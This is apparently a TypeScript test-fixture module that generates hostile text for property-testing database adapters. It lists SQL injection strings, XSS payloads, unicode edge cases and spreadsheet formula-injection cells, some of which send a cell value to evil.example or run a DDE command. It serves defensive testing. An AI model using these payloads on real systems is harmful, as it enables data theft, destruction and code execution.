/**
 * Hostile text: what an attacker — or an unlucky clerk pasting from a PDF — types into a free
 * text field. SQL metacharacters and injection attempts, unicode that breaks naive code
 * (combining marks, right-to-left overrides, astral characters, separators), HTML and SVG
 * payloads, spreadsheet formula triggers; and the two things no adapter can store (U+0000, a
 * lone surrogate), which must be refused, never mangled.
 *
 * @since 0.1.0
 */
import * as fc from "fast-check"

/**
 * SQL metacharacters and injection attempts against SQLite and PostgreSQL.
 *
 * @since 0.1.0
 * @category constructors
 */
export const sql: ReadonlyArray<string> = [
  "'",
  "''",
  '"',
  "`",
  ";",
  "--",
  "/*",
  "*/",
  "\\",
  "\\'",
  "%",
  "_",
  "?",
  "$1",
  "$$",
  ":id",
  "@p",
  "' OR '1'='1",
  "'; DROP TABLE quartieri_households; --",
  '"); DELETE FROM quartieri__audit; --',
  "1; SELECT pg_sleep(10); --",
  "' UNION SELECT name, sql FROM sqlite_master --",
  "%' AND 1=1 --",
  "E'\\\\x27'",
  "$tag$ x $tag$",
  '{"$ne": null}',
  "ＤＲＯＰ ＴＡＢＬＥ"
]

/**
 * Unicode that breaks naive code: emoji with joiners, flags, combining marks (`e` + U+0301 is not
 * `é`), a right-to-left override, astral and CJK characters, the last code point, zero-width and
 * separator characters, letters whose case changes their length.
 *
 * @since 0.1.0
 * @category constructors
 */
export const unicode: ReadonlyArray<string> = [
  "👩‍👩‍👧‍👦",
  "🇮🇹",
  "e\u0301",
  "é",
  "\u202Egnp.exe",
  "𠜎𠜱",
  "\u{10FFFF}",
  "\uFFFF",
  "\u200B",
  "\uFEFF",
  "\u2028\u2029",
  "\u0085",
  "İı",
  "ß",
  "ﬃ",
  "Ωμέγα",
  "مرحبا",
  "नमस्ते",
  "\t\r\n",
  "\u00A0"
]

/**
 * HTML and SVG payloads.
 *
 * @since 0.1.0
 * @category constructors
 */
export const xss: ReadonlyArray<string> = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(2)>",
  "<svg onload=alert(3)>",
  '" onmouseover="alert(4)',
  "' onfocus='alert(5)' autofocus '",
  "javascript:alert(6)",
  "<iframe src=javascript:alert(7)>",
  '<a href="https://evil.example">x</a>',
  "&lt;b&gt;",
  "<!--",
  "]]>",
  "<style>*{display:none}</style>",
  "{{constructor.constructor('alert(8)')()}}"
]

/**
 * The characters that make a spreadsheet read a cell as a formula.
 *
 * @since 0.1.0
 * @category constructors
 */
export const formulaTriggers: ReadonlyArray<string> = ["=", "+", "-", "@", "\t", "\r"]

/**
 * Strings no adapter can store: U+0000 and lone surrogates. They must be refused with a typed
 * error, never silently changed.
 *
 * @since 0.1.0
 * @category constructors
 */
export const unstorable: ReadonlyArray<string> = ["a\u0000b", "\uD800", "x\uDC00", "\uDBFF"]

/**
 * Every payload above in one string (storable): a single value that tries everything at once.
 *
 * @since 0.1.0
 * @category constructors
 */
export const composite: string = [...sql, ...unicode, ...xss, ...formulaTriggers.map((t) => `${t}1+1`)].join(" ")

/**
 * Whether `text` can be stored by every adapter (no U+0000, no lone surrogate).
 *
 * @since 0.1.0
 * @category utils
 */
export const isStorable = (text: string): boolean =>
  !text.includes("\u0000") && !/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/.test(text)

/**
 * Random hostile text that every adapter can store: pieces of the payloads above and random
 * graphemes, joined; sometimes long (up to about 20 000 characters).
 *
 * @since 0.1.0
 * @category constructors
 */
export const storable: fc.Arbitrary<string> = fc.oneof(
  {
    arbitrary: fc
      .array(
        fc.oneof(
          fc.constantFrom(...sql, ...unicode, ...xss, ...formulaTriggers),
          fc.string({ unit: "grapheme", maxLength: 10 })
        ),
        { minLength: 1, maxLength: 8 }
      )
      .map((parts) => parts.join("")),
    weight: 9
  },
  { arbitrary: fc.integer({ min: 1000, max: 20_000 }).map((n) => "'\"; -- 😀 ".repeat(Math.ceil(n / 10))), weight: 1 }
)

/**
 * A text cell that a spreadsheet would run as a formula: a trigger, then anything.
 *
 * @since 0.1.0
 * @category constructors
 */
export const formulaCell: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom(...formulaTriggers),
    fc.oneof(
      fc.string({ unit: "grapheme", maxLength: 30 }),
      fc.constantFrom(
        "SOMMA(A1:A9)",
        'HYPERLINK("https://evil.example?d="&A1,"clic")',
        "cmd|' /C calc'!A0",
        "1+1",
        "@SUM(1)",
        'IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")'
      )
    ),
    fc.constantFrom("", "'", "''")
  )
  .map(([trigger, rest, apostrophes]) => `${apostrophes}${trigger}${rest}`)
